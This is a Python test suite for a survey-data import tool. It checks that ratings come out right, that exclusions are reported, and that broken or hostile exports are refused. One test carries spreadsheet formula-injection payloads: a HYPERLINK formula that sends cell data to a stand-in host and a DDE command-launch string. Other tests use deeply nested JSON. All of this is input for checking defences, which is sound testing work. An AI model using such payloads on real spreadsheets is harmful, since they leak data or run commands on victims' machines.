"""`elot survey import`: the server's database and jsPsych's exports into fit's ratings
file and the goal answers; exclusions by rule; malformed, partial or foreign data refused
with the file and the row."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import sqlite3
import zipfile
from pathlib import Path

import pytest
from helpers import benchmark, run_elot

from elot.study.fit import read_ratings
from elot.study.references import ScenarioRef
from elot.survey.build import load_config
from elot.survey.server import steps_of
from elot.survey.store import Store

#: The survey (two scenarios, two orders) and the trials a participant sends, as
#: ``benchmarks/survey_attacks.py`` builds them for the hostile cases.
ATTACKS = benchmark("survey_attacks")
SCENARIOS = ATTACKS.SCENARIOS


@pytest.fixture(scope="module")
def survey(tmp_path_factory):
    return ATTACKS.build(tmp_path_factory.mktemp("import"))


session = ATTACKS.session


def to_csv(trials) -> str:
    """jsPsych's CSV: one row per trial, lists and booleans as JSON."""
    columns = list(dict.fromkeys(k for t in trials for k in t))
    out = io.StringIO()
    writer = csv.DictWriter(out, columns, restval="")
    writer.writeheader()
    for t in trials:
        writer.writerow({k: json.dumps(v) if isinstance(v, (list, dict, bool)) else v for k, v in t.items()})
    return out.getvalue()


def test_database_and_exports_give_the_ratings_fit_reads(survey, tmp_path):
    config = load_config(survey)
    store = Store(tmp_path / "answers.sqlite", config["id"])
    try:
        for name, order in (("A", 0), ("B", 1)):
            pid = store.start(token=None, prolific_pid=name, study_id="", session_id="", orders=2)
            assert pid["order"] == order
            for data in session(config, order, name):
                store.add_trial(pid["id"], data["elot_step"], data, last=data["elot_step"] == "debrief")
    finally:
        store.close()
    (tmp_path / "c.json").write_text(json.dumps(session(config, 0, "C", rating=1)))
    (tmp_path / "d.csv").write_text(to_csv(session(config, 1, "D", rating=7)))
    done = run_elot("survey", "import", str(tmp_path / "answers.sqlite"), str(tmp_path / "c.json"),
                    str(tmp_path / "d.csv"), "--survey", str(survey), "-o", str(tmp_path / "ratings.csv"))
    assert done.returncode == 0, done.stderr
    assert done.stderr.splitlines()[0] == "4 participants: 4 kept, 0 excluded"
    rows = list(csv.DictReader(open(tmp_path / "ratings.csv")))
    assert list(rows[0]) == ["scenario", "mode", "t", "statement", "rating", "participant"]
    assert {r["participant"] for r in rows} == {"A", "B", "C", "D"}
    assert {r["rating"] for r in rows if r["participant"] == "A"} == {"0.833333"}       # 6 on 1..7
    assert {r["rating"] for r in rows if r["participant"] == "C"} == {"0"}
    assert {r["rating"] for r in rows if r["participant"] == "D"} == {"1"}
    for scenario in config["scenarios"]:
        loaded = ScenarioRef(scenario["scenario"]).load()
        ts = {int(r["t"]) for r in rows if r["scenario"] == scenario["scenario"]}
        assert ts == set(loaded.judgments)            # fit's t: judgment points, never times[k]
    ratings = read_ratings(tmp_path / "ratings.csv")  # fit reads it as it is
    assert len(ratings.keys) >= 3
    goals = list(csv.DictReader(open(tmp_path / "ratings-goals.csv")))
    assert {g["score"] for g in goals} == {"1"} and {g["excluded"] for g in goals} == {""}


def test_exclusions_are_rules_and_the_summary_says_who_and_why(survey, tmp_path):
    config = load_config(survey)
    declined = session(config, 0, "no", stop_after=1)
    declined[0]["elot_agreed"] = False
    trials = (session(config, 0, "good") + session(config, 1, "guesser", goal_right=False)
              + session(config, 0, "quitter", stop_after=7) + session(config, 1, "confused", passed=False)
              + declined)
    (tmp_path / "all.json").write_text(json.dumps(trials))
    done = run_elot("survey", "import", str(tmp_path / "all.json"), "--survey", str(survey),
                    "-o", str(tmp_path / "ratings.csv"))
    assert done.returncode == 0, done.stderr
    judged = sum(1 for k, _, _ in steps_of(config, config["orders"][0]).values() if k == "judgment")
    assert done.stderr.splitlines()[:5] == [
        "5 participants: 1 kept, 4 excluded",
        "  excluded guesser: goal score 0.00 < 0.5",
        f"  excluded quitter: incomplete (2 of {judged} judgment points)",
        "  excluded confused: failed the comprehension check (1 attempt)",
        "  excluded no: did not consent",
    ]
    assert {r["participant"] for r in csv.DictReader(open(tmp_path / "ratings.csv"))} == {"good"}
    done = run_elot("survey", "import", str(tmp_path / "all.json"), "--survey", str(survey), "-o",
                    str(tmp_path / "r2.csv"), "--min-goal-score", "0", "--keep-incomplete", "--keep-failed-check")
    assert done.returncode == 0 and done.stderr.splitlines()[0] == "5 participants: 4 kept, 1 excluded"


@pytest.mark.parametrize("name, text, message", [
    ("cut.json", lambda good: json.dumps(good)[:-200], "cut.json is not valid JSON"),
    ("rows.csv", lambda good: to_csv(good).rsplit("\n", 3)[0].rsplit(",", 2)[0] + "\n",
     "fields, the header 13 (a partial export?)"),
    ("cell.csv", lambda good: to_csv(good).replace('"[6, 6]"', '"[6, 6"', 1), "column elot_ratings holds"),
    ("other.json", lambda good: json.dumps([{**t, "survey_id": "another"} for t in good]),
     "other.json: trial 1: an answer to another survey"),
    ("late.json", lambda good: json.dumps([{**t, "elot_t": t["elot_t"] + 1} if t["elot_kind"] == "judgment" else t
                                           for t in good]), "the scenario or t is not the step's"),
    ("nine.json", lambda good: json.dumps([{**t, "elot_ratings": [9] * len(t["elot_ratings"])}
                                           if t["elot_kind"] == "judgment" else t for t in good]),
     "elot_ratings must be 2 whole numbers 1..7"),
])
def test_malformed_partial_or_foreign_answers_are_refused_naming_the_file_and_row(survey, tmp_path, name, text,
                                                                                  message):
    config = load_config(survey)
    good = session(config, 0, "P")
    (tmp_path / name).write_text(text(good))
    (tmp_path / "ratings.csv").write_text("keep me\n")
    done = run_elot("survey", "import", str(tmp_path / name), "--survey", str(survey), "-o",
                    str(tmp_path / "ratings.csv"))
    assert done.returncode == 2, done.stderr
    assert message in done.stderr and "Traceback" not in done.stderr
    assert str(tmp_path / name) in done.stderr
    assert (tmp_path / "ratings.csv").read_text() == "keep me\n"     # nothing written over


def test_a_database_of_another_survey_is_refused(survey, tmp_path):
    store = Store(tmp_path / "x.sqlite", "0123456789abcdef")
    store.close()
    done = run_elot("survey", "import", str(tmp_path / "x.sqlite"), "--survey", str(survey), "-o",
                    str(tmp_path / "r.csv"))
    assert done.returncode == 2 and "holds the answers of another survey" in done.stderr
    assert not (tmp_path / "r.csv").exists()


# -- what fit makes of the imported ratings ---------------------------------------------


def _ratings(tmp_path, rows) -> Path:
    path = tmp_path / "ratings.csv"
    with open(path, "w", newline="") as handle:
        writer = csv.DictWriter(handle, ["scenario", "mode", "t", "statement", "rating", "participant"])
        writer.writeheader()
        writer.writerows(rows)
    return path


def _rows(participants=("A", "B", "C", "D"), shift=0):
    scenario = ScenarioRef("empty-box").load()
    statements = [s.text for s in scenario.statements if s.mode == "current"][:3]
    rows = []
    for n, person in enumerate(participants):
        for t in scenario.judgments:
            for k, text in enumerate(statements):
                rows.append({"scenario": "empty-box", "mode": "current", "t": t + shift, "statement": text,
                             "rating": round((k + t % 3 + 0.1 * n) / 10, 3), "participant": person})
    return rows


def test_fit_refuses_a_rating_at_a_t_that_is_not_a_judgment_point(tmp_path):
    """stimuli.json's times are t + 1: ratings at them were silently scored at steps no one
    was asked about. Now the row is named."""
    path = _ratings(tmp_path, _rows(shift=1))
    done = run_elot("fit", str(path), "--samples", "10")
    assert done.returncode == 2
    # judgment points 4, 5, 8: the ratings at 5 (from 4) pass, the first at 6 is refused
    assert f"{path}:5:19: error: t = 6 is not a judgment point of empty-box (its points: 4, 5, 8)" in done.stderr
    assert "stimuli.json's times are t + 1" in done.stderr


def test_fit_takes_a_participant_column_as_repeated_measures_not_a_factor(tmp_path):
    path = _ratings(tmp_path, _rows())
    done = run_elot("fit", str(path), "--model", "full", "--samples", "10", "-o", str(tmp_path / "fit.json"))
    assert done.returncode == 0, done.stderr
    assert "By participant" not in done.stdout
    lines = done.stdout.splitlines()
    assert lines[0].startswith("9 rated statements (36 ratings)")
    said = re.fullmatch(r"4 participants; split-half reliability of the human means (\S+) \(Spearman–Brown, "
                        r"200 splits\)", lines[1])
    assert said and float(said.group(1)) > 0.9
    fit = json.loads((tmp_path / "fit.json").read_text())
    assert fit["participants"] == 4 and fit["split_half"] > 0.9


def test_report_sets_the_goal_answers_beside_the_models_goal_posterior(survey, tmp_path):
    from elot.domains.doors_keys_gems.inference import infer

    config = load_config(survey)
    trials = session(config, 0, "A") + session(config, 1, "B", goal_right=False)
    (tmp_path / "all.json").write_text(json.dumps(trials))
    done = run_elot("survey", "import", str(tmp_path / "all.json"), "--survey", str(survey), "-o",
                    str(tmp_path / "ratings.csv"), "--min-goal-score", "0")
    assert done.returncode == 0, done.stderr
    done = run_elot("batch", *SCENARIOS, "--beta", "2", "-o", str(tmp_path / "table.csv"), timeout=600)
    assert done.returncode == 0, done.stderr
    done = run_elot("report", str(tmp_path / "table.csv"), "--ratings", str(tmp_path / "ratings.csv"), "--goals",
                    str(tmp_path / "ratings-goals.csv"), "--no-curves", "--no-storyboards", "--format", "png",
                    "-o", str(tmp_path / "report"), timeout=600)
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "report" / "goals.png").read_bytes().startswith(b"\x89PNG")
    # the ratings' participant column: repeated measures, with n per item and reliability
    note = (tmp_path / "report" / "summary.md").read_text().splitlines()[-1]
    assert re.fullmatch(r"Human ratings: 2 participants, \d+ items, n per item \d+–\d+ \(mean [\d.]+\); "
                        r"split-half reliability of the item means \(Spearman–Brown\): .+", note), note
    rows = list(csv.DictReader(open(tmp_path / "report" / "goals.csv")))
    assert list(rows[0]) == ["scenario", "t", "gem", "n", "ticked", "human", "model"]
    for name in SCENARIOS:
        scenario = ScenarioRef(name).load().detail
        posterior = infer(scenario, model="full", beta=2.0)
        true = scenario.true_goal
        for t in scenario.judgments:
            here = {r["gem"]: r for r in rows if r["scenario"] == name and int(r["t"]) == t}
            assert set(here) == {g for g, _ in scenario.layout.gems}
            for gem, row in here.items():
                assert float(row["model"]) == pytest.approx(posterior.goal_posterior(t)[gem], abs=1e-4)
                assert row["n"] == "2"
            # A ticked the true goal, B another gem: half each
            assert float(here[true]["ticked"]) == 0.5 and float(here[true]["human"]) == 0.5


# -- hostile or broken input: an error at its place, never a traceback --------------------


def _served(config, path, people):
    """A database as the server keeps it: ``people`` is (PROLIFIC_PID, rating), each
    answering in the order the server gives."""
    store = Store(path, config["id"])
    try:
        ids = []
        for name, rating in people:
            pid = store.start(token=None, prolific_pid=name, study_id="", session_id="", orders=len(config["orders"]))
            for data in session(config, pid["order"], name, rating=rating):
                store.add_trial(pid["id"], data["elot_step"], data, last=data["elot_step"] == "debrief")
            ids.append(pid["id"])
    finally:
        store.close()
    return ids


def _import(*args):
    done = run_elot("survey", "import", *map(str, args))
    assert "Traceback" not in done.stderr, done.stderr
    return done


def test_trial_data_that_is_not_json_in_the_database_is_named(survey, tmp_path):
    config = load_config(survey)
    _served(config, tmp_path / "a.sqlite", [("A", 6)])
    db = sqlite3.connect(tmp_path / "a.sqlite")
    db.execute("UPDATE trials SET data = '{not json' WHERE step = 's1-1'")
    db.commit()
    db.close()
    done = _import(tmp_path / "a.sqlite", "--survey", survey, "-o", tmp_path / "r.csv")
    assert done.returncode == 2
    assert f"{tmp_path / 'a.sqlite'}: participant A, step s1-1: not valid JSON" in done.stderr
    assert not (tmp_path / "r.csv").exists()


def test_an_order_the_survey_does_not_have_is_named(survey, tmp_path):
    config = load_config(survey)
    _served(config, tmp_path / "a.sqlite", [("A", 6)])
    db = sqlite3.connect(tmp_path / "a.sqlite")
    db.execute("UPDATE participants SET order_index = 99")
    db.commit()
    db.close()
    done = _import(tmp_path / "a.sqlite", "--survey", survey, "-o", tmp_path / "r.csv")
    assert done.returncode == 2 and "participant A: order 99 is not one of the survey's (0 to 1)" in done.stderr
    trials = [{**t, "order": 7} for t in session(config, 0, "B")]
    (tmp_path / "b.json").write_text(json.dumps(trials))
    done = _import(tmp_path / "b.json", "--survey", survey, "-o", tmp_path / "r.csv")
    assert done.returncode == 2 and "trial 1: order 7 is not one of the survey's" in done.stderr


@pytest.mark.parametrize("shape", ["document", "lines", "csv"])
def test_an_export_nested_100000_deep_is_refused_not_a_recursion_error(survey, tmp_path, shape):
    depth = 60_000 if shape == "csv" else 100_000      # a CSV cell holds up to 128 KB
    deep = "[" * depth + "]" * depth
    trials = session(load_config(survey), 0, "A")
    name = "deep.csv" if shape == "csv" else "deep.json"
    if shape == "csv":
        text = to_csv(trials).replace('"[6, 6]"', deep, 1)
    else:
        text = deep if shape == "document" else json.dumps(trials) + "\n" + deep + "\n"
    (tmp_path / name).write_text(text)
    done = _import(tmp_path / name, "--survey", survey, "-o", tmp_path / "r.csv")
    assert done.returncode == 2 and "nested too deeply to read" in done.stderr, done.stderr


@pytest.mark.parametrize("scale", [[1], [], [7, 1], [1, 7, 9], ["1", "7"], None, [1.5, 7], [True, 7]])
def test_a_malformed_scale_in_survey_json_is_named(survey, tmp_path, scale):
    work = tmp_path / "survey"
    shutil.copytree(survey, work)
    config = json.loads((work / "survey.json").read_text())
    (tmp_path / "a.json").write_text(json.dumps(session(config, 0, "A")))
    config["scale"] = scale
    (work / "survey.json").write_text(json.dumps(config))
    done = _import(tmp_path / "a.json", "--survey", work, "-o", tmp_path / "r.csv")
    assert done.returncode == 2 and '"scale" must be two whole numbers, low < high' in done.stderr, done.stderr
    assert str(work / "survey.json") in done.stderr


@pytest.mark.parametrize("value", ["nan", "inf", "-inf", "-0.5", "1.5", "half"])
def test_a_min_goal_score_that_is_not_a_score_is_refused(survey, tmp_path, value):
    (tmp_path / "a.json").write_text(json.dumps(session(load_config(survey), 0, "A", goal_right=False)))
    done = _import(tmp_path / "a.json", "--survey", survey, "-o", tmp_path / "r.csv", f"--min-goal-score={value}")
    assert done.returncode == 2 and "--min-goal-score must be a number from 0 to 1" in done.stderr, done.stderr
    assert not (tmp_path / "r.csv").exists()


def test_when_one_output_is_refused_none_is_written(survey, tmp_path):
    """The goals file is someone else's: the ratings and the raw table are not written
    either (before, the ratings were, and the exit said failure)."""
    (tmp_path / "a.json").write_text(json.dumps(session(load_config(survey), 0, "A")))
    (tmp_path / "ratings-goals.csv").write_text("my own notes\n")
    done = _import(tmp_path / "a.json", "--survey", survey, "-o", tmp_path / "ratings.csv")
    assert done.returncode == 2 and "ratings-goals.csv exists and does not look like a file elot wrote" in done.stderr
    assert not (tmp_path / "ratings.csv").exists() and not (tmp_path / "ratings-raw.csv").exists()
    assert (tmp_path / "ratings-goals.csv").read_text() == "my own notes\n"
    done = _import(tmp_path / "a.json", "--survey", survey, "-o", tmp_path / "same.csv", "--raw", tmp_path / "same.csv")
    assert done.returncode == 2 and "--raw and -o name the same file" in done.stderr
    assert not (tmp_path / "same.csv").exists()


def test_a_failed_write_puts_back_what_was_already_written(survey, tmp_path, monkeypatch):
    """all or none also when the disk fails under the third file: the first two are put
    back as they were (an earlier import's files, here)."""
    from elot.survey import answers

    (tmp_path / "a.json").write_text(json.dumps(session(load_config(survey), 0, "A")))
    outputs = [(str(tmp_path / "r.csv"), "new ratings\n", "-o"), (str(tmp_path / "g.csv"), "new goals\n", "--goals"),
               (str(tmp_path / "x.csv"), "new raw\n", "--raw")]
    answers.write_all([(path, "old\n", option) for path, _, option in outputs[:1]])
    import elot.output

    real = elot.output.write_output

    def failing(path, content, **kwargs):
        if str(path).endswith("x.csv"):
            raise elot.output.ElotError("cannot write x.csv: No space left on device")
        return real(path, content, **kwargs)

    monkeypatch.setattr(elot.output, "write_output", failing)
    with pytest.raises(elot.output.ElotError, match="No space left"):
        answers.write_all(outputs)
    assert (tmp_path / "r.csv").read_text() == "old\n"
    assert not (tmp_path / "g.csv").exists() and not (tmp_path / "x.csv").exists()


# -- spreadsheets, duplicates, the raw table, JATOS --------------------------------------


def test_cells_a_spreadsheet_would_run_are_neutralised_and_numbers_kept(survey, tmp_path):
    config = load_config(survey)
    sneaky = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
              "\tx", "\r=1", "-7", "-0.25", "1e-3"]
    trials = [t for n, name in enumerate(sneaky) for t in session(config, n % 2, name)]
    (tmp_path / "a.json").write_text(json.dumps(trials))
    done = _import(tmp_path / "a.json", "--survey", survey, "-o", tmp_path / "ratings.csv")
    assert done.returncode == 0, done.stderr
    for name in ("ratings.csv", "ratings-goals.csv", "ratings-raw.csv"):
        column = {r["participant"] for r in csv.DictReader(open(tmp_path / name, newline=""))}
        assert column == {"'" + s for s in sneaky[:6]} | {"-7", "-0.25", "1e-3"}, name


def test_spreadsheet_safe_never_leaves_a_formula_and_never_changes_a_number():
    from hypothesis import given
    from hypothesis import strategies as st

    from elot.survey.answers import FORMULA_START, spreadsheet_safe

    @given(st.text(max_size=12), st.floats(allow_nan=False, allow_infinity=False))
    def check(text, number):
        (row,) = spreadsheet_safe([{"a": text, "n": repr(number), "k": 3}])
        assert not row["a"].startswith(FORMULA_START) or row["a"] == text and float(text) == float(text)
        assert row["a"] in (text, "'" + text)
        assert row["n"] == repr(number) and row["k"] == 3

    check()


def test_duplicate_sessions_are_reported_excluded_and_flagged(survey, tmp_path):
    """The server flags a second session with the same PROLIFIC_PID (participants.
    duplicate_of); import says how many, keeps them out of the ratings unless asked, and
    flags them in the raw table. Two complete sessions of one PROLIFIC_PID are both left
    out (issue 44: which one is the participant's cannot be told). A database without the
    column (older servers) still reads."""
    config = load_config(survey)
    ids = _served(config, tmp_path / "a.sqlite", [("A", 6), ("A-again", 2), ("B", 6)])
    db = sqlite3.connect(tmp_path / "a.sqlite")
    db.execute("UPDATE participants SET duplicate_of = ? WHERE id = ?", (ids[0], ids[1]))
    db.commit()
    db.close()
    done = _import(tmp_path / "a.sqlite", "--survey", survey, "-o", tmp_path / "ratings.csv")
    assert done.returncode == 0, done.stderr
    lines = done.stderr.splitlines()
    assert lines[0] == "3 participants: 1 kept, 2 excluded"
    why = (f"2 sessions of A are complete ({ids[0]}, {ids[1]}): none is kept, as nothing here tells which is the "
           "participant's (Prolific's submissions list each SESSION_ID)")
    assert lines[1:3] == [f"  excluded A: {why}", f"  excluded A-again: {why}"]
    assert lines[3].startswith("2 sessions of a PROLIFIC_PID that has another session: excluded")
    assert {r["participant"] for r in csv.DictReader(open(tmp_path / "ratings.csv"))} == {"B"}
    raw = list(csv.DictReader(open(tmp_path / "ratings-raw.csv")))
    assert {(r["participant"], r["duplicate"]) for r in raw} == {("A", "1"), ("A-again", "1"), ("B", "0")}
    done = _import(tmp_path / "a.sqlite", "--survey", survey, "-o", tmp_path / "kept.csv", "--keep-duplicates")
    assert done.returncode == 0 and done.stderr.splitlines()[0] == "3 participants: 3 kept, 0 excluded"
    # a database of the layout before duplicate_of (the store adds the column only when it serves)
    db = sqlite3.connect(tmp_path / "a.sqlite")
    db.execute("ALTER TABLE participants DROP COLUMN duplicate_of")
    db.commit()
    db.close()
    done = _import(tmp_path / "a.sqlite", "--survey", survey, "-o", tmp_path / "old.csv")
    assert done.returncode == 0, done.stderr
    assert done.stderr.splitlines()[0] == "3 participants: 3 kept, 0 excluded"


def test_the_raw_table_has_one_row_per_response_with_times_and_positions(survey, tmp_path):
    from elot.survey.answers import RAW_COLUMNS

    config = load_config(survey)
    trials = session(config, 1, "A")
    for n, t in enumerate(trials):
        t["rt"], t["trial_index"] = 1000 + n, n + 1      # jsPsych's own fields
    quitter = session(config, 0, "Q", stop_after=9)
    (tmp_path / "a.json").write_text(json.dumps(trials + quitter))
    done = _import(tmp_path / "a.json", "--survey", survey, "-o", tmp_path / "ratings.csv")
    assert done.returncode == 0, done.stderr
    raw = list(csv.DictReader(open(tmp_path / "ratings-raw.csv")))
    assert tuple(raw[0]) == RAW_COLUMNS
    mine = [r for r in raw if r["participant"] == "A"]
    order = config["orders"][1]
    expected = []
    for position, trial in enumerate(order["trials"], start=1):
        scenario = next(s for s in config["scenarios"] if s["name"] == trial["scenario"])
        for k, segment in enumerate(scenario["segments"]):
            if segment["judged"]:
                expected += [(str(position), scenario["scenario"], str(k), str(segment["t"]), str(shown),
                              scenario["statements"][n]["text"]) for shown, n in enumerate(trial["statements"], 1)]
    assert [(r["scenario_position"], r["scenario"], r["segment"], r["t"], r["statement_position"], r["statement"])
            for r in mine] == expected
    by_step = {t["elot_step"]: t for t in trials}
    for r in mine:
        step = by_step[f"s{r['scenario_position']}-{r['segment']}"]
        assert r["rt_ms"] == str(step["rt"]) and r["trial"] == str(step["trial_index"])
        assert r["response"] == "6" and r["order"] == "1" and r["condition"] == order["condition"]
        assert r["goals_ticked"] == r["goal"] and r["goal_score"] == "1"
        assert (r["failed_check"], r["duplicate"], r["incomplete"], r["excluded"]) == ("0", "0", "0", "")
    quit_rows = [r for r in raw if r["participant"] == "Q"]
    assert quit_rows and {r["incomplete"] for r in quit_rows} == {"1"}
    assert {r["excluded"] for r in quit_rows} == {r["excluded"] for r in quit_rows if r["excluded"].startswith(
        "incomplete")}
    # the ratings file is what it was: only the kept participant, its columns unchanged
    ratings = list(csv.DictReader(open(tmp_path / "ratings.csv")))
    assert list(ratings[0]) == list(RATING_COLUMNS_EXPECTED) and {r["participant"] for r in ratings} == {"A"}
    assert len(ratings) == len([r for r in mine if r["control"] == "0"])


RATING_COLUMNS_EXPECTED = ("scenario", "mode", "t", "statement", "rating", "participant")


def _jatos_lines(trials, run):
    """What the page appends to a JATOS result: a trial per line, with its run."""
    return "".join(json.dumps({**t, "elot_session": run}) + "\n" for t in trials)


def test_jatos_results_archive_and_text_export_are_read(survey, tmp_path):
    """JATOS's results archive holds study_result_N/comp-result_M/data.txt (here a trial per
    line, as the page appends them) and metadata; its plain-text export puts the results
    one after another. Both import alike; a second run of the same PROLIFIC_PID is a duplicate."""
    config = load_config(survey)
    runs = {"11": session(config, 0, "P1"), "12": session(config, 1, "P2", rating=3),
            "13": session(config, 1, "P1", rating=1), "14": session(config, 0, "jatos-14", stop_after=6)}
    with zipfile.ZipFile(tmp_path / "results.jrzip", "w") as archive:
        archive.writestr("metadata.json", json.dumps({"apiVersion": "1.0.0", "data": []}))
        for run, trials in runs.items():
            archive.writestr(f"study_result_{run}/comp-result_{int(run) + 100}/data.txt", _jatos_lines(trials, run))
        archive.writestr("study_result_15/comp-result_115/data.txt", "")      # opened, nothing answered
        archive.writestr("study_result_11/comp-result_111/files/upload.png", b"\x89PNG")
    (tmp_path / "results.txt").write_text("".join(_jatos_lines(t, run) for run, t in runs.items()))
    got = {}
    for name in ("results.jrzip", "results.txt"):
        done = _import(tmp_path / name, "--survey", survey, "-o", tmp_path / f"{name}.csv")
        assert done.returncode == 0, done.stderr
        lines = done.stderr.splitlines()
        assert lines[0] == "4 participants: 1 kept, 3 excluded", lines      # P1 twice, complete both times
        assert "  excluded P1: 2 sessions of P1 are complete (11, 13): none is kept, as nothing here tells which " \
               "is the participant's (Prolific's submissions list each SESSION_ID)" in lines
        got[name] = (tmp_path / f"{name}.csv").read_text(), (tmp_path / f"{name}-raw.csv").read_text()
        raw = list(csv.DictReader(open(tmp_path / f"{name}-raw.csv")))
        assert {(r["participant"], r["session"], r["duplicate"]) for r in raw} == {
            ("P1", "11", "1"), ("P2", "12", "0"), ("P1", "13", "1"), ("jatos-14", "14", "0")}
    assert got["results.jrzip"] == got["results.txt"]


@pytest.mark.parametrize("content, message", [
    ({"study_result_1/comp-result_2/data.txt": "{not json\n"}, "comp-result_2/data.txt is not valid JSON"),
    ({"metadata.json": "{}"}, "holds no JATOS results"),
    ({"study_result_1/comp-result_2/data.txt": "[" * 100_000}, "nested too deeply to read"),
])
def test_a_broken_jatos_archive_is_named(survey, tmp_path, content, message):
    with zipfile.ZipFile(tmp_path / "r.jrzip", "w") as archive:
        for name, text in content.items():
            archive.writestr(name, text)
    done = _import(tmp_path / "r.jrzip", "--survey", survey, "-o", tmp_path / "r.csv")
    assert done.returncode == 2 and message in done.stderr, done.stderr
    (tmp_path / "bad.jrzip").write_bytes(b"PK\x03\x04 not really")
    done = _import(tmp_path / "bad.jrzip", "--survey", survey, "-o", tmp_path / "r.csv")
    assert done.returncode == 2 and "is not a readable zip archive" in done.stderr
